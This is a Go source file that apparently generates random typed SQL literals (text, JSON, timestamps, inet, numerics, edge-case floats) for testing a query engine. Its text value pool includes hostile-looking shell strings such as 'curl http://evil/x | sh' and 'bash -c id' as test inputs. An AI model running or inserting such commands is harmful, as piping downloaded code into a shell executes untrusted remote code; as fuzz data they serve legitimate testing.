package generator

import (
	"fmt"
	"slices"
	"strings"
)

// quote writes s as a string constant on one line.
func quote(s string) string {
	s = strings.ReplaceAll(s, "'", "''")
	if strings.ContainsAny(s, "\n\r\t") {
		return "E'" + strings.NewReplacer(`\`, `\\`, "\n", `\n`, "\r", `\r`, "\t", `\t`).Replace(s) + "'"
	}
	return "'" + s + "'"
}

// texts are values of text: some look like values of other types, some stand
// at the edge of what a pattern or a format treats apart.
var texts = []string{
	"", "a", "bash", "sh", "curl", "A", "Bash", "BASH", "naïve", "日本語", "a%b", `back\slash`, "under_score", "  padded  ", "x,y", "it's",
	"/usr/bin/bash", "/usr/bin/curl", "/tmp/x", "bash -c id", "curl http://evil/x | sh", "12", "-7", "3.14", "1e5", "9999999999", " 42 ", "t", "false",
	"2024-03-01", "2024-03-01 12:00:00+00", "12:34:56", "1 day", "10.0.0.1", "10.0.0.0/8", "::1", "192.168.1.5/24",
	"123e4567-e89b-12d3-a456-426614174000", `{"a": 1}`, `[1, 2, "x"]`, "{a,b}", "NULL", "null", "😀", "line\nbreak", "tab\tstop", `say "hi"`, "%", "_", ".", "a.b*c", "Ünï", `\x6162`, "ﬁ",
}

var words = []string{"a", "b", "bash", "sh", "/", ",", " ", "x", "é", "日", "%", "_", "er", ".", "1", "-"}

var patterns = []string{"a%", "%sh", "%", "_", "", "%a%", `%\%%`, "b_sh", "%日%", `a\_b`, "%/bin/%", "__%", "B%"}

var regexps = []string{"a", "^b", "sh$", "[a-c]+", `\d+`, "(a|b)h?", ".*", "^$", `\w+\s`, "é|日", "[^a-z]", "a{1,2}", `(\d+)\.(\d+)`, "x*", `^/usr/(\w+)`, "B", `\mb`, "(?i)BASH", "[[:alpha:]]+", "."}

var jsons = []string{`{}`, `[]`, `{"a": 1}`, `{"a": {"b": [1, 2, null]}, "s": "x"}`, `[1, 2, "x", null, true]`, `"str"`, `42`, `null`, `true`, `{"é": "日本", "n": -1.5}`, `["a", "b"]`, `{"HOME": "/root", "PATH": "/bin:/usr/bin"}`}

var keys = []string{"a", "s", "b", "HOME", "PATH", "mnt", "pid", "é", "n", ""}

var times = []string{"2024-03-01 12:00:00", "2024-02-29 23:59:59.999999", "1970-01-01 00:00:00", "2023-12-31 00:00:00", "2024-03-31 01:30:00.5", "1999-12-31 23:59:60"}

var dates = []string{"2024-03-01", "2024-02-29", "1970-01-01", "1999-12-31", "2000-01-01", "2024-12-30"}

var intervals = []string{"1 day", "1 hour", "00:00:00", "1 month", "-1 day", "1 year 2 mons 3 days 04:05:06.789", "36 hours", "90 minutes", "5 minutes", "-00:00:01", "14 days", "7 days"}

var numerics = []string{"0", "1", "1.5", "-2.50", "0.001", "100", "123456789012345678901234567890.123456789", "-0.5", "1e10", "3", "99.995"}

var floats = []string{"0", "1.5", "-2.25", "0.1", "1e10", "100", "2.5", "3.5", "-0.5", "1e-7", "99.95"}

var wildFloats = []string{"NaN", "Infinity", "-Infinity", "1e300", "-1e300", "5e-324", "1.7976931348623157e308", "-0"}

// literal is a constant of the type that needs no context to have it.
func (g *gen) literal(typ string) *node {
	if elem, ok := strings.CutSuffix(typ, "[]"); ok {
		list := listOf("ARRAY[", ", ", "]")
		for range 1 + g.below(3) {
			list.parts = append(list.parts, g.literal(elem))
		}
		if g.percent(15) {
			return typed(typ, "'{}'::"+typ)
		}
		return typed(typ, list)
	}
	if g.percent(6) {
		return typed(typ, "NULL::"+typ)
	}
	switch typ {
	case "bool":
		return typed(typ, one(g, []string{"true", "false"}))
	case "int4":
		return typed(typ, signed(g.integer(32), ""))
	case "int8":
		n := g.integer(64)
		if n > 1<<31 || n < -1<<31 {
			if n == -1<<63 {
				return typed(typ, "'-9223372036854775808'::int8")
			}
			return typed(typ, signed(n, ""))
		}
		return typed(typ, signed(n, "::int8"))
	case "int2":
		return typed(typ, signed(g.integer(16), "::int2"))
	case "numeric":
		s := one(g, numerics)
		if g.risk && g.percent(5) {
			s = one(g, []string{"NaN", "Infinity", "-Infinity"})
		}
		return typed(typ, quote(s)+"::numeric")
	case "text":
		return typed(typ, quote(one(g, texts))+"::text")
	}
	return typed(typ, g.bare(typ).String()+"::"+typ)
}

func signed(n int64, cast string) string {
	if n < 0 || cast != "" {
		return fmt.Sprintf("(%d)%s", n, cast)
	}
	return fmt.Sprint(n)
}

// integer is mostly small; at the edge of what bits hold if the statement may fail.
func (g *gen) integer(bits int) int64 {
	n := one(g, []int64{0, 1, 2, 3, 5, 7, -1, 10, 100, 1000, -3, 8, 60, 255, 4})
	if g.risk && g.percent(15) {
		return one(g, []int64{1<<(bits-1) - 1, -1 << (bits - 1)})
	}
	if bits == 64 && g.percent(10) {
		return one(g, []int64{1 << 33, -5_000_000_000, 65534})
	}
	return n
}

// bare is a quoted constant whose type comes from where it stands.
func (g *gen) bare(typ string) *node {
	pool := map[string][]string{
		"bool": {"t", "f", "true", "no"}, "int2": {"0", "1", "7"}, "int4": {"0", "1", "7", "-3"}, "int8": {"0", "1", "1000", "5000000000"},
		"numeric": numerics, "float8": floats, "text": texts, "varchar": texts, "timestamptz": times, "timestamp": times, "date": dates, "interval": intervals, "jsonb": jsons,
		"time": {"00:00:00", "12:34:56.789", "23:59:59", "04:05"}, "bytea": {"", `\x00ff`, `\x616263`, `\xe697a5`},
		"uuid": {"00000000-0000-0000-0000-000000000000", "123e4567-e89b-12d3-a456-426614174000", "FFFFFFFF-ffff-4fff-8fff-ffffffffffff"},
		"inet": {"10.0.0.1", "192.168.1.5/24", "::1", "2001:db8::1/64", "0.0.0.0/0", "10.1.2.3/32"}, "cidr": {"10.0.0.0/8", "192.168.1.0/24", "::/0", "2001:db8::/32"},
	}[typ]
	if typ == "float8" && g.percent(20) {
		pool = wildFloats
		if !g.risk {
			pool = wildFloats[:3]
		}
	}
	if strings.HasSuffix(typ, "[]") || len(pool) == 0 {
		return g.literal(typ)
	}
	s := one(g, pool)
	if typ == "timestamptz" && g.percent(30) {
		s += "+02"
	}
	return typed(typ, quote(s))
}

// types are those that expressions of any type are made of, common ones first.
var types = []string{"text", "int4", "int8", "bool", "timestamptz", "float8", "numeric", "jsonb", "text[]", "interval", "date", "timestamp", "int2", "int4[]", "uuid", "inet", "bytea", "time", "cidr", "varchar"}

// exact are the types whose equal values are written alike, so that it does
// not matter which of them a group or DISTINCT shows.
var exact = []string{"text", "int4", "int8", "bool", "timestamptz", "date", "timestamp", "text[]", "int2", "int4[]", "uuid", "time", "bytea"}

// known leaves out the types that the engine has no function of.
func known(list []string) []string {
	c := theCalls()
	return slices.DeleteFunc(slices.Clone(list), func(t string) bool {
		switch t {
		case "uuid", "inet", "bytea", "time", "cidr":
			return !c.types[t]
		}
		return false
	})
}

func (g *gen) anyType() string { return one(g, known(types)) }

func (g *gen) exactType() string { return one(g, known(exact)) }
